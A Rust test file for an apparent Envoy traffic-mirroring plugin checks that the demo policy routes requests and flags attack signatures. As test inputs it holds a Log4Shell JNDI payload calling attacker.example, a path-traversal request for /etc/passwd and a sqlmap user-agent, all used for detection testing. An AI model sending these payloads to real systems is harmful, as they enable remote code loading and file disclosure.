//! The `make run` demo (`envoy-config/envoy.yaml`): its mirror policy compiles, behaves as the
//! README's curl lines say, and names the target that the demo route matches on.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

use meshsight_policy::decision::{MirrorDecision, MirrorReason, MIRROR_DECISION_PROPERTY};
use meshsight_test_harness::host::Host;
use std::path::Path;

fn demo_yaml() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../envoy-config/envoy.yaml");
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// The block scalar under the mirror filter's `value: |`.
fn demo_mirror_policy(yaml: &str) -> String {
    let lines: Vec<&str> = yaml.lines().collect();
    let start = lines
        .iter()
        .position(|l| l.trim() == "name: meshsight_mirror")
        .expect("mirror filter in envoy.yaml");
    let value = start
        + lines[start..]
            .iter()
            .position(|l| l.trim() == "value: |")
            .expect("`value: |` after the mirror filter");
    let indent = |l: &str| l.len() - l.trim_start().len();
    let base = indent(lines[value]);
    lines[value + 1..]
        .iter()
        .take_while(|l| l.trim().is_empty() || indent(l) > base)
        .map(|l| l.trim_start())
        .collect::<Vec<_>>()
        .join("\n")
}

fn decision(host: &Host, id: u32) -> MirrorDecision {
    serde_json::from_slice(
        &host
            .stream_property(id, &[MIRROR_DECISION_PROPERTY])
            .unwrap(),
    )
    .unwrap()
}

#[test]
fn demo_policy_behaves_as_the_readme_says() {
    let yaml = demo_yaml();
    let policy = demo_mirror_policy(&yaml);
    let mut host = Host::builder(meshsight::register)
        .property(&["plugin_root_id"], "meshsight_mirror")
        .plugin_config(&policy)
        .start()
        .unwrap_or_else(|e| panic!("the demo policy is refused: {e}\n{policy}"));
    let mut run = |path: &str, extra: &[(&str, &str)]| {
        let id = host.new_http_stream();
        let mut headers = vec![
            (":method", "GET"),
            (":path", path),
            (":authority", "localhost"),
            (":scheme", "http"),
        ];
        headers.extend_from_slice(extra);
        host.request_headers(id, &headers, true);
        let d = decision(&host, id);
        let header = host
            .request_header_map(id)
            .into_iter()
            .find(|(n, _)| n == "x-meshsight-mirror")
            .map(|(_, v)| v);
        (d, header)
    };
    let (d, h) = run("/api/orders/42", &[]);
    assert_eq!(
        (d.reason, d.rule.as_deref()),
        (MirrorReason::Rule, Some("orders"))
    );
    // The demo route mirrors on exactly this header value.
    let value = h.expect("decision header");
    assert!(
        yaml.contains(&format!("string_match: {{ exact: {value} }}")),
        "envoy.yaml's mirror route must match x-meshsight-mirror: {value}"
    );
    let (d, _) = run(
        "/api/items",
        &[("user-agent", "${jndi:ldap://attacker.example/a}")],
    );
    assert_eq!(d.signatures, vec!["log4shell"]);
    let (d, _) = run("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D", &[]);
    assert_eq!(d.signatures, vec!["log4shell"]);
    let (d, _) = run("/api/items?file=..%2F..%2Fetc%2Fpasswd", &[]);
    assert_eq!(d.signatures, vec!["path_traversal"]);
    let (d, _) = run("/api/items", &[("user-agent", "sqlmap/1.8#stable")]);
    assert_eq!(d.signatures, vec!["sqlmap"]);
    let (d, h) = run("/healthz", &[("x-meshsight-mirror", "sensor")]);
    assert_eq!(
        (d.mirrored, d.rule.as_deref(), h),
        (false, Some("health"), None)
    );
    let (d, _) = run("/api/items", &[("x-request-id", "demo-1")]);
    assert_eq!(d.rule.as_deref(), Some("sample-rest"));
}
